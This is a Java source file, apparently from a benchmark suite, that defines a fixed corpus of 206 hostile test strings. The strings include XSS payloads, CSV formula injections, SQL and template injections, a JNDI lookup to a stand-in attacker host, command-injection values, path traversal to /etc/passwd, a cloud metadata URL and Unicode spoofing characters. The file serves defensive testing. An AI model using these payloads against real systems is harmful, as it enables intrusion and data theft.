package io.prox.benchmarks.running;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/// Texts that somebody may send to do harm, or that software stumbles over; always the same.
///
/// After OWASP's cheat sheets on cross-site scripting, CSV and SQL injection and path traversal,
/// Unicode Technical Report 36 (security considerations) and Trojan Source (Boucher and Anderson,
/// 2021).
public final class HostileTexts {
    /// How many there are, as the documents say.
    private static final int COUNT = 206;

    /// What a script among them sets on the page's window if it runs.
    private static final String RAN = "window.__pwned=1";

    private static final List<String> MARKUP =
            List.of(
                    "<script>" + RAN + "</script>",
                    "</script><script>" + RAN + "</script>",
                    "<img src=x onerror=" + RAN + ">",
                    "<svg onload=" + RAN + ">",
                    "<svg><animate onbegin=" + RAN + " attributeName=x dur=1s>",
                    "\"><script>" + RAN + "</script>",
                    "'><img src=x onerror='" + RAN + "'>",
                    "<iframe src=javascript:" + RAN + "></iframe>",
                    "<a href=\"javascript:" + RAN + "\">x</a>",
                    "javascript:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "vbscript:msgbox(1)",
                    "<details open ontoggle=" + RAN + ">",
                    "<math><mtext></p><style><img src=x onerror=" + RAN + ">",
                    "<body onload=" + RAN + ">",
                    "<input autofocus onfocus=" + RAN + ">",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<style>@import '//evil.example/x.css';</style>",
                    "<meta http-equiv=refresh content='0;url=//evil.example'>",
                    "<base href=//evil.example/>",
                    "<object data=//evil.example/x></object>",
                    "<embed src=//evil.example/x>",
                    "<form action=//evil.example><button>Go</button></form>",
                    "<video src=x onerror=" + RAN + ">",
                    "<template><script>" + RAN + "</script></template>",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&#60;script&#62;alert(1)&#60;/script&#62;",
                    "<!--<script>" + RAN + "</script>-->",
                    "<![CDATA[<script>" + RAN + "</script>]]>",
                    "<plaintext>",
                    "<textarea><script>" + RAN + "</script>",
                    "<img src=//evil.example/pixel.gif>",
                    "\" style=\"background:url(//evil.example/x)",
                    "' onmouseover='" + RAN,
                    "` onerror=" + RAN + " `",
                    "<dialog open>alert</dialog>");

    private static final List<String> FORMULAS =
            List.of(
                    "=1+1",
                    "=cmd|' /C calc'!A0",
                    "=HYPERLINK(\"http://evil.example\",\"x\")",
                    "+1+1",
                    "+cmd|' /C calc'!A0",
                    "-1+1",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)",
                    "\t=1+1",
                    "\r=1+1",
                    "\n=1+1",
                    " =1+1",
                    "\"=1+1",
                    "=1+1\";=1+1",
                    ";=1+1",
                    ",=1+1",
                    "\uFF1D1+1",
                    "\uFF0B1+1",
                    "\uFF0D1+1",
                    "\uFF20SUM(1)",
                    "'=1+1",
                    "=IMPORTXML(\"//evil.example\",\"//a\")",
                    "%0A=1+1");

    private static final List<String> QUERIES =
            List.of(
                    "' OR 1=1 --",
                    "'; DROP TABLE ingestion.lead; --",
                    "\" OR \"\"=\"",
                    "') UNION SELECT null,version() --",
                    "1; SELECT pg_sleep(5)",
                    "$$; SELECT 1; $$",
                    "%' AND 1=0 --",
                    "_%_%",
                    "\\",
                    "\\'",
                    "E'\\x00'",
                    ":workspace",
                    "{\"$gt\":\"\"}",
                    "*)(uid=*",
                    "${jndi:ldap://evil.example/a}",
                    "${7*7}",
                    "#{7*7}",
                    "{{7*7}}",
                    "{{constructor.constructor('" + RAN + "')()}}",
                    "<%= 7*7 %>",
                    "<#assign x=1>",
                    "*{7*7}",
                    "$(id)",
                    "`id`",
                    "| id",
                    "; id",
                    "&& id",
                    "%s%s%s%n",
                    "%d%x%p",
                    "{0}{1}",
                    "[[${1}]]");

    private static final List<String> PATHS =
            List.of(
                    "../../../../etc/passwd",
                    "..\\..\\..\\windows\\win.ini",
                    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                    "..%c0%af..%c0%afetc/passwd",
                    "/etc/passwd",
                    "file:///etc/passwd",
                    "C:\\Windows\\System32",
                    "\\\\evil.example\\share",
                    "//evil.example/x",
                    "http://169.254.169.254/latest/meta-data",
                    "....//....//etc/passwd",
                    "CON",
                    "NUL.txt",
                    "~root",
                    ".",
                    "..",
                    "/",
                    "a/b/c?d=e#f",
                    "%00",
                    "%2500");

    private static final List<String> UNICODE =
            List.of(
                    "\u0000",
                    "a\u0000b",
                    "\uD800",
                    "\uDC00",
                    "a\uD83Db",
                    "\uDE00\uD83D",
                    "\u202Etxt.exe",
                    "\u202Dabc",
                    "\u2066a\u2069",
                    "\u2067\u05D0\u2069",
                    "\u200Fabc",
                    "\u061Cabc",
                    "\u05D0\u05D1\u05D2",
                    "\u0645\u0631\u062D\u0628\u0627",
                    "abc \u05D0\u05D1 123 \u05D2",
                    "a\u200Bb",
                    "a\u200Db",
                    "\u200B",
                    "\u2060",
                    "\uFEFF",
                    "a\uFEFFb",
                    "\u00AD",
                    "\u034F",
                    "\u115F",
                    "\u3164",
                    "\u180E",
                    "\u2028",
                    "\u2029",
                    "\u0085",
                    "\u00A0",
                    "\u0001\u0002\u0003",
                    "\u001B[31mred\u001B[0m",
                    "\u0007",
                    "\b\b\b",
                    "\u007F",
                    "\u009B31m",
                    "\uFFFE",
                    "\uFFFF",
                    "\uFFFD",
                    "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66",
                    "\uD83C\uDDE9\uD83C\uDDEA",
                    "\uD83D\uDC4D\uD83C\uDFFF",
                    "1\uFE0F\u20E3",
                    "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F",
                    "\uDB40\uDC01\uDB40\uDC41",
                    "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324",
                    "e\u0301",
                    "\u00E9",
                    "\u0130\u0131Ii",
                    "\u00DF\u1E9E",
                    "\uFB03",
                    "\u2126\u212A",
                    "\u0430dmin",
                    "p\u0430yp\u0430l.example",
                    "\u2024\u2024/",
                    "\u2215etc",
                    "\uFF1Cscript\uFF1E",
                    "\uD835\uDD04\uD835\uDD05",
                    "\u0E01\u0E33\u0E49",
                    "\u0915\u094D\u0937",
                    "\uFDFD",
                    "\u0BA4\u0BCA",
                    "\uD842\uDFB7");

    private static final List<String> STRUCTURE =
            List.of(
                    "",
                    " ",
                    "\t",
                    "\r\n",
                    "a\r\nb",
                    "X: y\r\nSet-Cookie: a=b",
                    "null",
                    "undefined",
                    "NaN",
                    "-0",
                    "1e999",
                    "9223372036854775808",
                    "true",
                    "__proto__",
                    "constructor",
                    "hasOwnProperty",
                    "toString",
                    "[object Object]",
                    "{}",
                    "[]",
                    "\"",
                    "'",
                    ",",
                    ";",
                    "\"\"\"",
                    "\"a,b\"");

    private HostileTexts() {}

    /// All of them.
    public static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        List.of(MARKUP, FORMULAS, QUERIES, PATHS, UNICODE, STRUCTURE).forEach(all::addAll);
        all.add("a".repeat(300));
        all.add("w".repeat(20_000));
        all.add("\uD83D\uDE00".repeat(3_000));
        all.add("\u202E".repeat(500) + "x");
        all.add("e" + "\u0301".repeat(2_000));
        all.add("<b>".repeat(2_000));
        all.add("\n".repeat(1_000));
        if (all.size() != COUNT) {
            throw new IllegalStateException("%d texts".formatted(all.size()));
        }
        return List.copyOf(all);
    }
}
